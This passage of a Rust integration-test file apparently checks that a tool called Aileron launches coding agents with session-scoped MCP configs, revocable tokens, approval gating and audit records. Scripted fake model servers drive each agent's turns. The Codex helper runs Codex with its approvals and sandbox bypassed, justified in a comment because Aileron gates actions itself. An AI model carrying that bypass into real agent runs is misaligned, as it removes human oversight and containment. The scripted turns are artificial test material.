    let config = report.split("--- config\n").nth(1).unwrap().split("--- token\n").next().unwrap();
    assert!(inserted_block(CODEX_CONFIG, config).iter().any(|line| line == "[mcp_servers.aileron]"), "{config}");
    let parsed: toml::Table = toml::from_str(config).unwrap();
    let server = &parsed["mcp_servers"]["aileron"];
    let mcp = Path::new(env!("CARGO_BIN_EXE_aileron")).with_file_name("aileron-mcp");
    assert_eq!(server["command"].as_str(), Some(mcp.to_str().unwrap()));
    assert!(server.get("env").is_none(), "no value in the user's file: {config}");
    let agent_env = |name: &str| {
        report
            .lines()
            .find_map(|line| line.strip_prefix(&format!("{name}=")))
            .unwrap_or_else(|| panic!("{name} in\n{report}"))
            .to_string()
    };
    assert_eq!(agent_env("AILERON_URL"), url);
    let token = agent_env("AILERON_TOKEN");
    let token = token.as_str();
    let session_id = agent_env("AILERON_SESSION_ID");
    let session_id = session_id.as_str();
    assert!(session_id.starts_with("ses-"), "{session_id}");
    assert!(!config.contains(token), "the token is in the agent's environment only");
    assert_eq!(report.split("--- token\n").nth(1).map(str::trim), Some("200"), "the token worked during the session");

    aileron::platform::process::install_crypto_provider();
    let client = reqwest::blocking::Client::new();
    let actions = client.get(format!("{url}/v1/actions")).bearer_auth(token).send().unwrap();
    assert_eq!(actions.status().as_u16(), 401, "the session's token is revoked once the agent exits");
    let admin = daemon["token"].as_str().unwrap();
    let session: Value =
        client.get(format!("{url}/v1/sessions/{session_id}")).bearer_auth(admin).send().unwrap().json().unwrap();
    assert_eq!(
        (session["status"].as_str(), session["exit_code"].as_i64(), session["agent"].as_str()),
        (Some("ended"), Some(3), Some("codex"))
    );
    let journal = std::fs::read_to_string(rig.aileron_home().join("sessions.jsonl")).unwrap();
    let last: Value = serde_json::from_str(journal.lines().last().unwrap()).unwrap();
    assert_eq!(
        last,
        json!({"event": "session.ended", "session_id": session_id, "ended_at": last["ended_at"], "exit_code": 3})
    );
    assert_eq!(std::fs::read_to_string(codex_home.join("config.toml.aileron-backup")).unwrap(), CODEX_CONFIG);
}

#[test]
fn claude_is_started_with_a_session_mcp_config_that_is_removed_afterwards() {
    let rig = LaunchRig::new();
    // The fake reads the file named after --mcp-config while it runs.
    rig.fake_agent("claude", "while [ $# -gt 0 ]; do [ \"$1\" = --mcp-config ] && cat \"$2\"; shift; done");
    let output = rig.run(&["launch", "claude", "--", "-p", "hello"], &[]);
    assert_eq!(output.status.code(), Some(3), "{}", text(&output));
    let report = std::fs::read_to_string(rig.report()).unwrap();
    let daemon = rig.daemon().unwrap();
    let url = daemon["url"].as_str().unwrap();
    let args_line = report.lines().next().unwrap();
    let config_path = args_line.strip_prefix("args: -p hello --mcp-config ").unwrap_or_else(|| panic!("{report}"));
    assert!(
        !config_path.starts_with(rig.aileron_home().to_str().unwrap()),
        "outside the home the agent cannot see: {config_path}"
    );
    assert!(!Path::new(config_path).exists(), "the session's config file is removed when the agent exits");
    assert!(report.contains(&format!("ANTHROPIC_BASE_URL={url}\n")), "{report}");
    assert!(report.contains(&format!("AILERON_URL={url}\n")), "the wiring is in the agent's environment: {report}");
    let config: Value =
        serde_json::from_str(report.split("--- config\n").nth(1).unwrap().split("--- token").next().unwrap()).unwrap();
    assert!(config["mcpServers"]["aileron"].get("env").is_none(), "{config}");
}

/// Real agents started by `aileron launch` in headless mode, each completing a turn that calls an
/// Aileron action over MCP: Claude Code (npm `@anthropic-ai/claude-code`, the MCP test's install in
/// `tests/mcp`), Codex (npm `@openai/codex`) and OpenCode (npm `opencode-linux-x64`, both in
/// `tests/agents`), all installed by `cargo xtask setup`, all confined by the launch. Their model
/// is a scripted server of ours behind the gateway, speaking the provider's real stream shape:
/// the first turn calls the action's tool, the second quotes the tool's result, so the turn only
/// completes if the agent reached the action through aileron-mcp with the
/// session's token. Without an agent the test FAILS naming the setup command;
/// `AILERON_SKIP_AGENT_TESTS=1` skips explicitly.
mod real_agents {
    use std::path::{Path, PathBuf};
    use std::process::Output;
    use std::sync::{Arc, Mutex};

    use axum::body::Body;
    use axum::extract::Request;
    use axum::response::Response;
    use serde_json::{Value, json};

    use super::{LaunchRig, text};
    use crate::support::{ActionSpec, guest_wasm, manifest};

    const SKIP_VARIABLE: &str = "AILERON_SKIP_AGENT_TESTS";
    const CLAUDE_TOOL: &str = "mcp__aileron__count_things";
    const CLAUDE_STATUS_TOOL: &str = "mcp__aileron__check_action_status";

    /// The directory of the agent's executable, or `None` when the test is explicitly skipped.
    fn agent(dir: &str, name: &str) -> Option<PathBuf> {
        agent_in(dir, "node_modules/.bin", name)
    }

    /// [`agent`] for an executable in `bin_dir` of the npm project `dir` (OpenCode's is in its
    /// platform package, which has no `.bin` link).
    fn agent_in(dir: &str, bin_dir: &str, name: &str) -> Option<PathBuf> {
        let bin = Path::new(env!("CARGO_MANIFEST_DIR")).join(dir).join(bin_dir);
        if bin.join(name).exists() {
            return Some(bin);
        }
        if std::env::var(SKIP_VARIABLE).as_deref() == Ok("1") {
            eprintln!("skipping the {name} launch test ({SKIP_VARIABLE}=1)");
            return None;
        }
        panic!(
            "{} is missing\nhint: run `cargo xtask setup` (npm ci in {dir}), or set {SKIP_VARIABLE}=1",
            bin.join(name).display()
        );
    }

    /// Every model request body the scripted server received.
    type Requests = Arc<Mutex<Vec<Value>>>;

    /// A scripted model server: `answer(path, body)` gives the status, content type and body.
    async fn model_server(requests: Requests, answer: fn(&str, &Value) -> Option<(&'static str, String)>) -> String {
        let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0)).await.unwrap();
        let addr = listener.local_addr().unwrap();
        let handler = move |request: Request| {
            let requests = requests.clone();
            async move {
                let path = request.uri().path().to_string();
                let get = request.method() == http::Method::GET;
                let bytes = axum::body::to_bytes(request.into_body(), 64 * 1024 * 1024).await.unwrap();
                let body: Value = serde_json::from_slice(&bytes).unwrap_or(Value::Null);
                if !get {
                    requests.lock().unwrap().push(body.clone());
                }
                match (get, answer(&path, &body)) {
                    (false, Some((content_type, text))) => {
                        Response::builder().header("content-type", content_type).body(Body::from(text)).unwrap()
                    }
                    // Codex first tries a WebSocket on GET /v1/responses; the gateway does not
                    // upgrade, so say so and let it fall back to HTTP streaming.
                    _ => Response::builder().status(404).body(Body::from("{}")).unwrap(),
                }
            }
        };
        let router = axum::Router::new().fallback(handler);
        tokio::spawn(async move { axum::serve(listener, router).await.unwrap() });
        format!("http://{addr}")
    }

    /// Installs the `echo` guest and the `count-things` action (tool `count_things`).
    fn install_action(rig: &LaunchRig) {
        install_action_gated(rig, false);
    }

    /// [`install_action`], the action needing the user's approval when `gated`.
    fn install_action_gated(rig: &LaunchRig, gated: bool) {
        let package = rig.temp.path().join("pkg-echo");
        std::fs::create_dir_all(&package).unwrap();
        std::fs::write(package.join("connector.wasm"), guest_wasm("echo")).unwrap();
        std::fs::write(package.join("manifest.toml"), manifest("echo", &[], "")).unwrap();
        let reference = "github://aileron-tests/echo@1.0.0";
        let installed = rig.run(
            &["connector", "install", "--from", package.to_str().unwrap(), reference, "--yes", "--allow-unsigned"],
            &[],
        );
        assert!(installed.status.success(), "{}", text(&installed));
        let hash = String::from_utf8_lossy(&installed.stdout).trim().to_string();
        let spec = ActionSpec {
            inputs: &[("count", "integer", true)],
            approval: gated,
            ..ActionSpec::new("count-things", "echo", &hash, "echo")
        };
        let action = rig.temp.path().join("count-things.md");
        std::fs::write(&action, spec.render()).unwrap();
        let added = rig.run(&["action", "add", action.to_str().unwrap()], &[]);
        assert!(added.status.success(), "{}", text(&added));
    }

    /// Checks what every launch must leave behind: the action ran as the session's agent with the
    /// model's arguments, and the session ended with the agent's exit code.
    fn check_session(rig: &LaunchRig, launched: &Output, agent: &str) {
        assert_eq!(launched.status.code(), Some(0), "{}", text(launched));
        let audit = rig.run(&["audit", "list", "--json", "--event-type", "action.executed"], &[]);
        let executed: Value = serde_json::from_slice(&audit.stdout).unwrap_or(Value::Null);
        let records = executed["items"].as_array().cloned().unwrap_or_default();
        assert_eq!(records.len(), 1, "{executed}\n{}", text(launched));
        assert_eq!(records[0]["actor"]["type"], "agent", "{executed}");
        let journal = std::fs::read_to_string(rig.aileron_home().join("sessions.jsonl")).unwrap();
        let lines: Vec<Value> = journal.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert_eq!((&lines[0]["event"], &lines[0]["agent"]), (&json!("session.started"), &json!(agent)));
        assert_eq!((&lines[1]["event"], &lines[1]["exit_code"]), (&json!("session.ended"), &json!(0)));
        assert_eq!(records[0]["session_id"], lines[1]["session_id"], "the run belongs to the launched session");
    }

    fn with_path(bin: &Path) -> String {
        format!("{}:{}", bin.display(), std::env::var("PATH").unwrap_or_default())
    }

    /// Claude Code: Anthropic Messages, SSE with an `event:` line on every event.
    fn claude_answer(path: &str, body: &Value) -> Option<(&'static str, String)> {
        claude_reply(path, body, claude_turn)
    }

    /// The text of the last message's tool result, when the last message carries one.
    fn last_tool_result(body: &Value) -> Option<String> {
        let last = body["messages"].as_array().and_then(|m| m.last()).cloned().unwrap_or(Value::Null);
        let result = last["content"]
            .as_array()
            .and_then(|blocks| blocks.iter().rev().find(|b| b["type"] == "tool_result").cloned())?;
        Some(match &result["content"] {
            Value::String(text) => text.clone(),
            Value::Array(parts) => parts.iter().filter_map(|p| p["text"].as_str()).collect::<Vec<_>>().join(""),
            other => other.to_string(),
        })
    }

    /// The scripted model's turn: call the action once, then report what it answered.
    fn claude_turn(body: &Value) -> (&'static str, Value) {
        let offers_tool = body["tools"].as_array().is_some_and(|tools| tools.iter().any(|t| t["name"] == CLAUDE_TOOL));
        match last_tool_result(body) {
            Some(text) => ("end_turn", json!([{"type": "text", "text": format!("The action answered: {text}")}])),
            None if offers_tool => (
                "tool_use",
                json!([{"type": "text", "text": "Counting with Aileron."},
                       {"type": "tool_use", "id": "toolu_aileron_1", "name": CLAUDE_TOOL, "input": {"count": 7}}]),
            ),
            None => ("end_turn", json!([{"type": "text", "text": "ok"}])),
        }
    }

    /// The scripted model's turn for a gated action: call it, relay the pending message, then poll
    /// `check_action_status` with the approval id until the user has decided, and report the result.
    fn claude_gated_turn(body: &Value) -> (&'static str, Value) {
        let Some(text) = last_tool_result(body) else { return claude_turn(body) };
        // Each tool use needs its own id.
        static POLLS: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
        let polls = POLLS.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        if text.contains("needs the user's approval")
            || text.starts_with("pending_approval:")
            || text.starts_with("approved:")
            || text.starts_with("running:")
        {
            let at = text.find("act-").expect("the pending answer names the approval");
            let id: String = text[at..].chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '-').collect();
            return (
                "tool_use",
                json!([{"type": "text", "text": "Waiting for the user's decision."},
                       {"type": "tool_use", "id": format!("toolu_aileron_poll_{polls}"), "name": CLAUDE_STATUS_TOOL,
                        "input": {"approval_id": id}}]),
            );
        }
        ("end_turn", json!([{"type": "text", "text": format!("The approved action answered: {text}")}]))
    }

    fn claude_reply(
        path: &str,
        body: &Value,
        turn: fn(&Value) -> (&'static str, Value),
    ) -> Option<(&'static str, String)> {
        if path == "/v1/messages/count_tokens" {
            return Some(("application/json", r#"{"input_tokens":10}"#.to_string()));
        }
        if path != "/v1/messages" {
            return None;
        }
        let (stop_reason, content) = turn(body);
        if body["stream"] != true {
            let message = json!({"id": "msg_fake", "type": "message", "role": "assistant", "model": "claude-fake",
                "content": content, "stop_reason": stop_reason, "stop_sequence": null,
                "usage": {"input_tokens": 10, "output_tokens": 12}});
            return Some(("application/json", message.to_string()));
        }
        let mut events = vec![(
            "message_start",
            json!({"type": "message_start", "message": {"id": "msg_fake", "type": "message", "role": "assistant",
                "content": [], "model": "claude-fake", "stop_reason": null, "stop_sequence": null,
                "usage": {"input_tokens": 10, "output_tokens": 1}}}),
        )];
        for (index, block) in content.as_array().unwrap().iter().enumerate() {
            let (start, delta) = if block["type"] == "tool_use" {
                (
                    json!({"type": "tool_use", "id": block["id"], "name": block["name"], "input": {}}),
                    json!({"type": "input_json_delta", "partial_json": block["input"].to_string()}),
                )
            } else {
                (json!({"type": "text", "text": ""}), json!({"type": "text_delta", "text": block["text"]}))
            };
            events.push((
                "content_block_start",
                json!({"type": "content_block_start", "index": index, "content_block": start}),
            ));
            events
                .push(("content_block_delta", json!({"type": "content_block_delta", "index": index, "delta": delta})));
            events.push(("content_block_stop", json!({"type": "content_block_stop", "index": index})));
        }
        events.push((
            "message_delta",
            json!({"type": "message_delta", "delta": {"stop_reason": stop_reason, "stop_sequence": null},
                "usage": {"output_tokens": 12}}),
        ));
        events.push(("message_stop", json!({"type": "message_stop"})));
        Some((
            "text/event-stream",
            events.iter().map(|(name, data)| format!("event: {name}\ndata: {data}\n\n")).collect(),
        ))
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn claude_code_launched_by_aileron_calls_an_action_over_mcp() {
        let Some(bin) = agent("tests/mcp", "claude") else { return };
        let requests: Requests = Arc::default();
        let model = model_server(requests.clone(), claude_answer).await;
        let rig = LaunchRig::new();
        let launched = tokio::task::spawn_blocking(move || {
            let upstream = [("AILERON_ANTHROPIC_UPSTREAM", Path::new(&model))];
            // The first command starts the daemon, with the scripted model as its upstream.
            let status = rig.run(&["daemon", "start"], &upstream);
            assert!(status.status.success(), "{}", text(&status));
            install_action(&rig);
            let launched = run_claude(&rig, &bin, CLAUDE_TOOL);
            check_session(&rig, &launched, "claude");
            launched
        })
        .await
        .unwrap();
        let result = claude_result(&launched);
        let answer = result["result"].as_str().unwrap_or_default();
        assert!(answer.starts_with("The action answered: "), "{result}");
        assert!(
            answer.contains(r#""output":{"args":{"count":7}"#),
            "the action ran with the model's arguments: {answer}"
        );
        let seen = requests.lock().unwrap().clone();
        let offered = seen
            .iter()
            .any(|body| body["tools"].as_array().is_some_and(|t| t.iter().any(|t| t["name"] == CLAUDE_TOOL)));
        assert!(offered, "the MCP tool was offered to the model");
    }

    /// `aileron launch claude -p …` with the scripted model's key, `tools` (comma-separated)
    /// allowed, and a stream-json transcript on stdout.
    fn run_claude(rig: &LaunchRig, bin: &Path, tools: &str) -> Output {
        let path = with_path(bin);
        let args = ["launch", "claude", "--", "-p", "Count to seven with Aileron."];
        let flags = ["--allowedTools", tools, "--output-format", "stream-json", "--verbose"];
        rig.run(
            &[&args[..], &flags[..]].concat(),
            &[
                ("PATH", Path::new(&path)),
                ("ANTHROPIC_API_KEY", Path::new("sk-ant-fake")),
                ("CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", Path::new("1")),
                ("ENABLE_TOOL_SEARCH", Path::new("false")),
                ("DISABLE_AUTOUPDATER", Path::new("1")),
            ],
        )
    }

    /// The `result` event of a Claude Code stream-json transcript.
    fn claude_result(launched: &Output) -> Value {
        json_lines(launched)
            .into_iter()
            .find(|event| event["type"] == "result")
            .unwrap_or_else(|| panic!("no result event in\n{}", String::from_utf8_lossy(&launched.stdout)))
    }

    /// Each line of the launch's stdout that is JSON (an agent's event stream).
    fn json_lines(launched: &Output) -> Vec<Value> {
        String::from_utf8_lossy(&launched.stdout).lines().filter_map(|line| serde_json::from_str(line).ok()).collect()
    }

    /// Runs `launch` while the user, in another terminal, approves what waits
    /// ([`approve_what_waits`]); the launch's output and the ids approved.
    fn while_the_user_approves(rig: &LaunchRig, launch: impl FnOnce() -> Output) -> (Output, Vec<String>) {
        let done = std::sync::atomic::AtomicBool::new(false);
        std::thread::scope(|scope| {
            let user = scope.spawn(|| approve_what_waits(rig, &done));
            let launched = launch();
            done.store(true, std::sync::atomic::Ordering::Release);
            (launched, user.join().unwrap())
        })
    }

    /// `aileron launch codex -- exec --json …` with the scripted model's key and its own home.
    fn run_codex(rig: &LaunchRig, bin: &Path) -> Output {
        let codex_home = rig.user_home().join(".codex");
        std::fs::create_dir_all(&codex_home).unwrap();
        let path = with_path(bin);
        // Aileron gates its own actions; Codex's separate per-tool prompt has no one to ask here.
        let exec =
            ["exec", "--json", "--skip-git-repo-check", "--ephemeral", "--dangerously-bypass-approvals-and-sandbox"];
        rig.run(
            &[&["launch", "codex", "--"][..], &exec[..], &["Count to seven with Aileron."][..]].concat(),
            &[("PATH", Path::new(&path)), ("CODEX_HOME", &codex_home), ("CODEX_API_KEY", Path::new("sk-fake"))],
        )
    }

    fn claude_gated_answer(path: &str, body: &Value) -> Option<(&'static str, String)> {
        claude_reply(path, body, claude_gated_turn)
    }

    /// Real Claude Code and a gated action (SPEC §8): the agent relays the pending message, polls
    /// `check_action_status` while the user decides, and finishes its turn with the action's
    /// result once the user approved — the run audited once, as the session's agent.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn claude_code_waits_for_the_users_approval_then_finishes_its_turn() {
        let Some(bin) = agent("tests/mcp", "claude") else { return };
        let requests: Requests = Arc::default();
        let model = model_server(requests.clone(), claude_gated_answer).await;
        let rig = LaunchRig::new();
        let launched = tokio::task::spawn_blocking(move || {
            let upstream = [("AILERON_ANTHROPIC_UPSTREAM", Path::new(&model))];
            let status = rig.run(&["daemon", "start"], &upstream);
            assert!(status.status.success(), "{}", text(&status));
            install_action_gated(&rig, true);
            let tools = format!("{CLAUDE_TOOL},{CLAUDE_STATUS_TOOL}");
            let (launched, approved) = while_the_user_approves(&rig, || run_claude(&rig, &bin, &tools));
            assert_eq!(approved.len(), 1, "one approval, approved once: {approved:?}\n{}", text(&launched));
            check_session(&rig, &launched, "claude");
            launched
        })
        .await
        .unwrap();
        let result = claude_result(&launched);
        let answer = result["result"].as_str().unwrap_or_default();
        assert!(answer.starts_with("The approved action answered: completed:"), "{result}");
        assert!(answer.contains(r#""output":{"args":{"count":7}"#), "the approved run's result: {answer}");
        let seen = requests.lock().unwrap().clone();
        let relayed = seen.iter().filter_map(last_tool_result).any(|text| text.contains("needs the user's approval"));
        assert!(relayed, "the model was given the pending message");
    }

    /// Codex: the Responses API, SSE events with `type` and `sequence_number`. Codex 0.169 offers
    /// MCP tools inside its JavaScript `exec` tool, so the scripted model calls the action from it.
    fn codex_answer(path: &str, body: &Value) -> Option<(&'static str, String)> {
        if path != "/v1/responses" {
            return None;
        }
        let inputs = body["input"].as_array().cloned().unwrap_or_default();
        let output = inputs
            .iter()
            .rev()
            .find(|item| item["type"] == "custom_tool_call_output" || item["type"] == "function_call_output");
        let item = match output {
            Some(output) => {
                let text = match &output["output"] {
                    Value::String(text) => text.clone(),
                    Value::Array(parts) => parts.iter().filter_map(|p| p["text"].as_str()).collect::<Vec<_>>().join(""),
                    other => other.to_string(),
                };
                json!({"type": "message", "id": "msg_fake", "role": "assistant", "status": "completed",
                    "content": [{"type": "output_text", "text": format!("The action answered: {text}"), "annotations": []}]})
            }
            None => json!({"type": "custom_tool_call", "id": "ctc_fake", "call_id": "call_fake", "name": "exec",
                "status": "completed",
                "input": "const r = await tools.mcp__aileron__count_things({count: 7});\ntext(JSON.stringify(r));"}),
        };
        Some(("text/event-stream", responses_stream(item.clone(), item, vec![])))
    }

    /// A Responses API stream of one output item: created, the item added (as `started`), the
    /// `deltas`, the item done, completed; every event with its `type` and `sequence_number`.
    fn responses_stream(started: Value, item: Value, deltas: Vec<(&str, Value)>) -> String {
        let response = |status: &str, output: Value| {
            json!({"id": "resp_fake", "object": "response", "created_at": 1_700_000_000, "status": status,
                "model": "gpt-fake", "output": output, "usage": {"input_tokens": 10, "output_tokens": 5, "total_tokens": 15,
                "input_tokens_details": {"cached_tokens": 0}, "output_tokens_details": {"reasoning_tokens": 0}}})
        };
        let mut events = vec![
            ("response.created", json!({"response": response("in_progress", json!([]))})),
            ("response.output_item.added", json!({"output_index": 0, "item": started})),
        ];
        events.extend(deltas);
        events.push(("response.output_item.done", json!({"output_index": 0, "item": item})));
        events.push(("response.completed", json!({"response": response("completed", json!([item]))})));
        events
            .into_iter()
            .enumerate()
            .map(|(sequence, (name, mut data))| {
                data["type"] = json!(name);
                data["sequence_number"] = json!(sequence);
                format!("event: {name}\ndata: {data}\n\n")
            })
            .collect()
    }

    /// OpenCode's `openai` provider (the AI SDK) speaks the Responses API and streams text as
    /// `response.output_text.delta` and calls as `response.function_call_arguments.delta` events.
    /// It first asks a small model for a session title (no tools): that gets a plain answer.
    fn opencode_answer(path: &str, body: &Value) -> Option<(&'static str, String)> {
        if path != "/v1/responses" {
            return None;
        }
        let tools: Vec<&str> =
            body["tools"].as_array().into_iter().flatten().filter_map(|t| t["name"].as_str()).collect();
        let inputs = body["input"].as_array().cloned().unwrap_or_default();
        let output = inputs.iter().rev().find(|item| item["type"] == "function_call_output");
        let (item, deltas): (Value, Vec<(&str, Value)>) = match (output, tools.contains(&"aileron_count_things")) {
            (None, true) => {
                let arguments = r#"{"count":7}"#;
                (
                    json!({"type": "function_call", "id": "fc_fake", "call_id": "call_fake", "name": "aileron_count_things",
                        "arguments": arguments, "status": "completed"}),
                    vec![(
                        "response.function_call_arguments.delta",
                        json!({"item_id": "fc_fake", "output_index": 0, "delta": arguments}),
                    )],
                )
            }
            (output, _) => {
                let text = match output.map(|o| &o["output"]) {
                    Some(Value::String(text)) => format!("The action answered: {text}"),
                    Some(other) => format!("The action answered: {other}"),
                    None => "Counting with Aileron".to_string(),
                };
                (
                    json!({"type": "message", "id": "msg_fake", "role": "assistant", "status": "completed",
                        "content": [{"type": "output_text", "text": text, "annotations": []}]}),
                    vec![(
                        "response.output_text.delta",
                        json!({"item_id": "msg_fake", "output_index": 0, "content_index": 0, "delta": text}),
                    )],
                )
            }
        };
        let mut started = item.clone();
        if started["type"] == "message" {
            started["content"] = json!([]);
            started["status"] = json!("in_progress");
        } else {
            started["arguments"] = json!("");
        }
        Some(("text/event-stream", responses_stream(started, item, deltas)))
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn opencode_launched_by_aileron_calls_an_action_over_mcp() {
        let Some(bin) = agent_in("tests/agents", "node_modules/opencode-linux-x64/bin", "opencode") else { return };
        let requests: Requests = Arc::default();
        let model = model_server(requests.clone(), opencode_answer).await;
        let rig = LaunchRig::new();
        let launched = tokio::task::spawn_blocking(move || {
            let status = rig.run(&["daemon", "start"], &[("AILERON_OPENAI_UPSTREAM", Path::new(&model))]);
            assert!(status.status.success(), "{}", text(&status));
            install_action(&rig);
            let path = with_path(&bin);
            let launched = rig.run(
                &[
                    "launch",
                    "opencode",
                    "--",
                    "run",
                    "--format",
                    "json",
                    "--model",
                    "openai/gpt-4o",
                    "Count to seven with Aileron.",
                ],
                &[
                    ("PATH", Path::new(&path)),
                    ("OPENAI_API_KEY", Path::new("sk-fake")),
                    // No models.dev download (this network reaches package registries only).
                    ("OPENCODE_DISABLE_MODELS_FETCH", Path::new("1")),
                    ("OPENCODE_DISABLE_AUTOUPDATE", Path::new("1")),
                ],
            );
            check_session(&rig, &launched, "opencode");
            launched
        })
        .await
        .unwrap();
        let events = json_lines(&launched);
        let call = events
            .iter()
            .find(|e| e["type"] == "tool_use" && e["part"]["tool"] == "aileron_count_things")
            .unwrap_or_else(|| {
                panic!("no aileron tool call in {events:#?}\n{}", String::from_utf8_lossy(&launched.stderr))
            });
        assert_eq!(call["part"]["state"]["status"], "completed", "{call}");
        assert!(call["part"]["state"]["output"].as_str().unwrap_or_default().contains(r#""count":7"#), "{call}");
        let answer: String =
            events.iter().filter(|e| e["type"] == "text").filter_map(|e| e["part"]["text"].as_str()).collect();
        assert!(answer.contains("The action answered: "), "{answer}\n{events:#?}");
        let offered = requests.lock().unwrap().iter().any(|body| {
            body["tools"].as_array().is_some_and(|tools| tools.iter().any(|t| t["name"] == "aileron_count_things"))
        });
        assert!(offered, "the MCP tool was offered to the model, through the gateway");
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn codex_launched_by_aileron_calls_an_action_over_mcp() {
        let Some(bin) = agent("tests/agents", "codex") else { return };
        let requests: Requests = Arc::default();
        let model = model_server(requests.clone(), codex_answer).await;
        let rig = LaunchRig::new();
        let launched = tokio::task::spawn_blocking(move || {
            let status = rig.run(&["daemon", "start"], &[("AILERON_OPENAI_UPSTREAM", Path::new(&model))]);
            assert!(status.status.success(), "{}", text(&status));
            install_action(&rig);
            let launched = run_codex(&rig, &bin);
            check_session(&rig, &launched, "codex");
            launched
        })
        .await
        .unwrap();
        let events = json_lines(&launched);
        let call = events
            .iter()
            .find(|e| e["type"] == "item.completed" && e["item"]["type"] == "mcp_tool_call")
            .unwrap_or_else(|| panic!("no MCP tool call in {events:#?}"));
        assert_eq!(
            (&call["item"]["server"], &call["item"]["tool"], &call["item"]["status"]),
            (&json!("aileron"), &json!("count_things"), &json!("completed"))
        );
        assert_eq!(
            call["item"]["result"]["structured_content"]["result"]["output"]["args"],
            json!({"count": 7}),
            "{call}"
        );
        let answer = events
            .iter()
            .rev()
            .find(|e| e["item"]["type"] == "agent_message")
            .and_then(|e| e["item"]["text"].as_str())
            .unwrap_or_default();
        assert!(answer.starts_with("The action answered: "), "{answer}");
        assert_eq!(requests.lock().unwrap().len(), 2, "two model turns, both through the gateway");
    }

    /// Codex and a gated action: its `exec` script calls the action, then polls
    /// `check_action_status` with the approval id until the user has decided.
    fn codex_gated_answer(path: &str, body: &Value) -> Option<(&'static str, String)> {
        let answered = body["input"].as_array().is_some_and(|inputs| {
            inputs
                .iter()
                .any(|item| item["type"] == "custom_tool_call_output" || item["type"] == "function_call_output")
        });
        if path != "/v1/responses" || answered {
            return codex_answer(path, body);
        }
        let script = "const asked = await tools.mcp__aileron__count_things({count: 7});\n\
                      const id = JSON.stringify(asked).match(/act-[0-9A-Za-z-]+/)[0];\n\
                      let status = null;\n\
                      for (let i = 0; i < 3000; i++) {\n\
                        status = await tools.mcp__aileron__check_action_status({approval_id: id});\n\
                        if (!/pending_approval:|approved:|running:/.test(JSON.stringify(status))) break;\n\
                      }\n\
                      text(JSON.stringify(status));";
        let item = json!({"type": "custom_tool_call", "id": "ctc_fake", "call_id": "call_fake", "name": "exec",
            "status": "completed", "input": script});
        Some(("text/event-stream", responses_stream(item.clone(), item, vec![])))
    }

    /// Real Codex and a gated action (SPEC §8): its tool script sees the pending answer, polls
    /// `check_action_status` while the user decides, and the turn ends with the approved run's
    /// result.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn codex_waits_for_the_users_approval_then_finishes_its_turn() {
        let Some(bin) = agent("tests/agents", "codex") else { return };
        let requests: Requests = Arc::default();
        let model = model_server(requests.clone(), codex_gated_answer).await;
        let rig = LaunchRig::new();
        let launched = tokio::task::spawn_blocking(move || {
            let status = rig.run(&["daemon", "start"], &[("AILERON_OPENAI_UPSTREAM", Path::new(&model))]);
            assert!(status.status.success(), "{}", text(&status));
            install_action_gated(&rig, true);
            let (launched, approved) = while_the_user_approves(&rig, || run_codex(&rig, &bin));
            assert_eq!(approved.len(), 1, "one approval, approved once: {approved:?}\n{}", text(&launched));
            check_session(&rig, &launched, "codex");
            launched
        })
        .await
        .unwrap();
        let events = json_lines(&launched);
        let answer = events
            .iter()
            .rev()
            .find(|e| e["item"]["type"] == "agent_message")
            .and_then(|e| e["item"]["text"].as_str())
            .unwrap_or_default();
        assert!(answer.starts_with("The action answered: ") && answer.contains("completed:"), "{answer}\n{events:#?}");
        assert!(
            answer.contains(r#"\"count\":7"#) || answer.contains(r#""count":7"#),
            "the approved run's result: {answer}"
        );
    }

    /// The user in another terminal: approves each approval that waits (after half a second, as a
    /// person would), until `done`; the ids approved.
    fn approve_what_waits(rig: &LaunchRig, done: &std::sync::atomic::AtomicBool) -> Vec<String> {
        let mut approved = Vec::new();
        while !done.load(std::sync::atomic::Ordering::Acquire) {
            let listed = rig.run(&["approval", "list", "--json"], &[]);
            let listed: Value = serde_json::from_slice(&listed.stdout).unwrap_or(Value::Null);
            for item in listed["items"].as_array().cloned().unwrap_or_default() {
                let id = item["id"].as_str().unwrap().to_string();
                std::thread::sleep(std::time::Duration::from_millis(500));
                assert!(rig.run(&["approval", "approve", &id], &[]).status.success());
                approved.push(id);
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        approved
    }

    /// Pi through `pi-mcp-adapter`, whose one `mcp` tool proxies the MCP servers of mcp.json: the
    /// model calls `count_things` through it, then reports what the tool answered.
    fn pi_turn(body: &Value) -> (&'static str, Value) {
        let last = body["messages"].as_array().and_then(|messages| messages.last()).cloned().unwrap_or_default();
        let result = last["content"].as_array().into_iter().flatten().find(|block| block["type"] == "tool_result");
        match result {
            None => (
                "tool_use",
                json!([{"type": "tool_use", "id": "toolu_aileron_pi_1", "name": "mcp",
                        "input": {"tool": "count_things", "server": "aileron", "args": "{\"count\": 3}"}}]),
            ),
            Some(result) => {
                ("end_turn", json!([{"type": "text", "text": format!("The tool answered: {}", result["content"])}]))
            }
        }
    }

    fn pi_answer(path: &str, body: &Value) -> Option<(&'static str, String)> {
        claude_reply(path, body, pi_turn)
    }

    /// Real Pi (with Node 22, which it needs), launched by `aileron launch pi` with the
    /// `pi-mcp-adapter` extension: its Anthropic traffic reaches the scripted model only through
    /// the daemon's gateway (Pi reads no base-URL variable; the one-run extension overrides its
    /// provider), the model's call of the action reaches the daemon through the adapter and
    /// `aileron-mcp` and is audited as the session's agent, and the one-run extension is gone from
    /// the launch's runtime directory afterwards.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn pi_launched_by_aileron_calls_an_action_through_its_mcp_adapter() {
        let Some(bin) = agent("tests/agents", "pi") else { return };
        let adapter = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/agents/node_modules/pi-mcp-adapter/index.ts");
        let requests: Requests = Arc::default();
        let model = model_server(requests.clone(), pi_answer).await;
        let rig = LaunchRig::new();
        let launched = tokio::task::spawn_blocking(move || {
            let status = rig.run(&["daemon", "start"], &[("AILERON_ANTHROPIC_UPSTREAM", Path::new(&model))]);
